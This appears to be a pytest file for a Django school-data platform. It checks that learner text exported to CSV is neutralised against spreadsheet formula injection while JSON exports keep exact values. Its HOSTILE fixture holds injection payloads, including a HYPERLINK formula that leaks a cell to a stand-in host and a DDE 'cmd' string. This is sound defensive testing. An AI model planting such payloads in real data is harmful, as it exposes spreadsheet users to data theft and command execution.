"""CSV formula injection: MIS text that a spreadsheet would run comes out inert in every CSV written for
people (the portability archive, export folders, the termination export) and exact in JSON."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from django.db import connection
from psycopg import sql

from steward.audit.actor import Actor
from steward.core.csvsafe import safe_cell, safe_column
from steward.mis.models import Learner
from steward.register.models import ProcessingActivity, Recipient
from steward.register.providers import Subject
from steward.retention.termination import write_export
from steward.rights.portability import write_portable
from steward.sharing import delivery, services
from steward.tenancy.models import Organisation
from steward.tenancy.scope import tenant_scope
from tests import factories
from tests.portal import families
from tests.sharing.conftest import request_flow

pytestmark = pytest.mark.django_db

# The values an adversarial run put in the MIS, each in a text field of one learner.
HOSTILE = {
    "legal_forename": '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")',
    "middle_names": "+1+cmd|' /C calc'!A0",
    "preferred_forename": "-2+3",
    "preferred_surname": "@SUM(1+1)",
    "address_line1": "\t=1+1",
    "address_line2": "\r=1+1",
}
HARMLESS = {"legal_surname": "Jones", "town": "Leeds"}


def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_others_stay() -> None:
    assert {safe_cell(v) for v in HOSTILE.values()} == {"'" + v for v in HOSTILE.values()}
    assert [safe_cell(v) for v in ("Jones", "O'Neil", "", "1+1", "a=b", " =1")] == [
        "Jones",
        "O'Neil",
        "",
        "1+1",
        "a=b",
        " =1",
    ]


def test_postgresql_applies_the_same_rule() -> None:
    values = [*HOSTILE.values(), "Jones", "", "a=b"]
    query = sql.SQL("SELECT {} FROM unnest(%s::text[]) WITH ORDINALITY AS t(v, n) ORDER BY n").format(safe_column("v"))
    with connection.cursor() as cursor:
        cursor.execute(query.as_string(connection.connection), [values])
        assert [v for (v,) in cursor.fetchall()] == [safe_cell(v) for v in values]


@pytest.fixture
def school() -> Organisation:
    school = factories.school("Rowan Primary", services_=("hosted_mis", "data_exchange"))
    records = families.family_records()
    records["learners"][0].update(HOSTILE | HARMLESS)
    families.send(school, records, mode="full")
    return school


def _row_of(rows: list[dict[str, str]], source_id: str = "L1") -> dict[str, str]:
    return next(r for r in rows if r["source_id"] == source_id)


def _assert_inert(row: dict[str, str], fields: list[str] | None = None) -> None:
    for name in fields or list(HOSTILE):
        assert row[name] == "'" + HOSTILE[name], name
    for name in HARMLESS:
        if name in row:
            assert row[name] == HARMLESS[name], name


def test_the_portability_archives_csv_is_inert_and_its_json_exact(school: Organisation) -> None:
    with tenant_scope([school.id]):
        learner = Learner.objects.get(source_id="L1")
        assert {f: getattr(learner, f) for f in HOSTILE} == HOSTILE  # the MIS values arrived as sent
        out = io.BytesIO()
        write_portable(school=school, subject=Subject("learner", learner.pk, school.id), out=out)
    with zipfile.ZipFile(out) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("csv/Learner.csv").decode(), newline="")))
        exported = json.loads(archive.read("records.json"))
    _assert_inert(_row_of(rows))
    learner_json = exported["mis.Learner"][0]
    assert {f: learner_json[f] for f in HOSTILE} == HOSTILE


def test_an_export_folders_csv_is_inert_and_a_json_export_exact(school: Organisation, tmp_path: Path) -> None:
    fields = [f"learners.{f}" for f in (*HOSTILE, "legal_surname", "town")]
    recipient = Recipient.objects.get(code="la-attendance")
    activity = ProcessingActivity.objects.get(service="data_exchange")
    written = {}
    for file_format in ("csv", "json"):
        folder = tmp_path / file_format
        folder.mkdir()
        flow = request_flow(
            school,
            recipient,
            activity,
            delivery="export",
            frequency="daily",
            categories=["learner.identity", "learner.contact_details"],
        )
        with tenant_scope([school.id]):
            flow = services.flow_approve(flow=flow, actor=Actor.system("DPO"), fields=fields)
            delivery.delivery_target_set(flow=flow, export_folder=str(folder), export_format=file_format)
        delivery.deliver_flow(flow_id=flow.id)
        [written[file_format]] = [p for p in folder.iterdir() if "-learners-" in p.name]
    with written["csv"].open(newline="") as handle:  # a carriage return inside a cell stays one
        rows = list(csv.DictReader(handle))
    _assert_inert(_row_of(rows))
    records = json.loads(written["json"].read_text())["records"]
    assert {f: _row_of(records)[f] for f in HOSTILE} == HOSTILE


def test_the_termination_exports_csv_is_inert_and_its_json_exact(school: Organisation, tmp_path: Path) -> None:
    path = tmp_path / "export.zip"
    write_export(school=school, path=path, actor_label="Processor Admin")
    with zipfile.ZipFile(path) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("csv/mis_learner.csv").decode(), newline="")))
        records = json.loads(archive.read("json/mis_learner.json"))
        contacts = list(csv.DictReader(io.StringIO(archive.read("csv/mis_contact.csv").decode(), newline="")))
    _assert_inert(_row_of(rows))
    assert {f: _row_of(records)[f] for f in HOSTILE} == HOSTILE
    assert [c["email"] for c in contacts if c["source_id"] == "C1"] == ["alex@example.invalid"]
    assert set(rows[0]) == set(records[0])  # every column of the table, as the JSON has
